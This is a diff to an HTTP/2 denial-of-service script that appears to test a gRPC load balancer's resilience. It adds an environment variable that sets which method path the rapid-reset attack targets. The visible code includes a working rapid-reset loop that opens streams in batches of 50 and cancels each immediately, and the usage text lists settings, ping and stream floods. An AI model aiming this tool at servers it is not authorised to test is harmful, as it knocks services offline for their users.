@@ -4,8 +4,9 @@
 Usage: h2_attack.py HOST PORT ATTACK SECONDS
 
 ATTACK is one of:
-  rapid_reset   open a Pick stream and reset it at once, over and over,
-                reconnecting whenever the server closes the connection
+  rapid_reset   open a Pick stream (or H2_ATTACK_PATH's method) and reset
+                it at once, over and over, reconnecting whenever the
+                server closes the connection
   settings_flood  send SETTINGS frames as fast as the socket takes them
   ping_flood    send PING frames as fast as the socket takes them
   many_streams  open 10 000 Pick streams on one connection, never ending
@@ -24,6 +25,7 @@ spent) and prints one summary line to stderr:
   goaway=N rst_received=N refused=N grpc_status=...
 """
 
+import os
 import socket
 import struct
 import sys
@@ -35,6 +37,8 @@ from hyperframe.frame import (DataFrame, Frame, GoAwayFrame, HeadersFrame,
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CANCEL = 0x8
+# The method whose streams rapid_reset opens (H2_ATTACK_PATH overrides).
+RESET_PATH = os.environ.get("H2_ATTACK_PATH", "/aside.v1.LoadBalancer/Pick")
 REFUSED_STREAM = 0x7
 
 
@@ -180,7 +184,7 @@ def rapid_reset(host, port, deadline, stats):
                 continue
         batch = []
         for _ in range(50):
-            stream_id, headers = conn.headers("/aside.v1.LoadBalancer/Pick")
+            stream_id, headers = conn.headers(RESET_PATH)
             batch.append(headers)
             batch.append(RstStreamFrame(stream_id, error_code=CANCEL))
         conn.send(batch)
